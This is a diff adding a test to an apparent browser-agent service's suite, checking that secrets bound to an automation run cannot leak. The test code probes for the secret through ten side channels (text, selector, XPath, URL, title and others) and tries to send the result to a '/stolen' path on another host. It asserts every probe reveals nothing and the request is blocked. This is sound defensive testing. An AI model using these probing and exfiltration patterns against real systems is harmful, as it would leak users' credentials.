@@ -185,6 +185,46 @@ describe("a model that obeys every page", () => {
     assert.strictEqual(sites.strayed(), 0)
   })
 
+  it("carries no answer about a secret to a site that the run may reach", async () => {
+    const { home, other } = sites.places
+    const before = sites.requests.length
+    code = `
+      await page.goto("${home}/echo")
+      await page.getByLabel("Pin").fill("<secret>pin</secret>")
+      const oracles = {
+        text: (guess) => page.getByText(new RegExp("^" + guess)).count(),
+        selector: (guess) => page.locator("p:has-text('" + guess + "')").count(),
+        pattern: (guess) => page.locator("text=/" + guess + "/").count(),
+        role: (guess) => page.getByRole("button", { name: new RegExp(guess) }).count(),
+        attribute: (guess) => page.locator("a[href*='" + guess + "']").count(),
+        xpath: (guess) => page.locator("//p[starts-with(., '" + guess + "')]").count(),
+        url: (guess) => page.waitForURL(new RegExp(guess), { timeout: 100 }),
+        title: async (guess) => (await page.title()).includes(guess),
+        find: (guess) => agent.act([{ find: { text: guess } }]),
+        wait: (guess) => page.getByText(guess).first().waitFor({ timeout: 100 }),
+      }
+      for (const [name, ask] of Object.entries(oracles)) {
+        const told = async (guess) => {
+          try { return JSON.stringify((await ask(guess)) ?? null).replaceAll(guess, "") } catch (error) { return error.message.replaceAll(guess, "") }
+        }
+        const answers = [await told("canary"), await told("canarz")]
+        console.log(name, answers[0] === answers[1] ? "says nothing" : "tells")
+        await page.goto("${other}/stolen?" + encodeURIComponent(answers[0])).then(() => console.log("left"), (error) => console.log("stays", error.message))
+      }
+    `
+    const { id } = await service.run({
+      task: byCode,
+      browserSettings: { allowedDomains: ["127.0.0.1", "localhost"] },
+      secretBindings: [{ alias: "pin", source: { type: "inline", value: pin }, allowedDomains: ["127.0.0.1"] }],
+    })
+    await service.ended(id)
+    const told = JSON.stringify(await service.events(id))
+    for (const name of ["text", "selector", "pattern", "role", "attribute", "xpath", "url", "title", "find", "wait"])
+      assert.include(told, `${name} says nothing`, told.slice(-4000))
+    assert.include(told, "stays A page of 127.0.0.1")
+    assert.notInclude(sites.requests.slice(before).join("\n"), "/stolen")
+  })
+
   it("answers in v3 with the code that it ran, without secrets", async () => {
     code = `await page.goto("${sites.places.home}/echo"); return "the pin is ${pin}"`
     const { body } = await service.post("/api/v3/sessions", { task: byCode, codeMode: true, sensitiveData: { pin } })
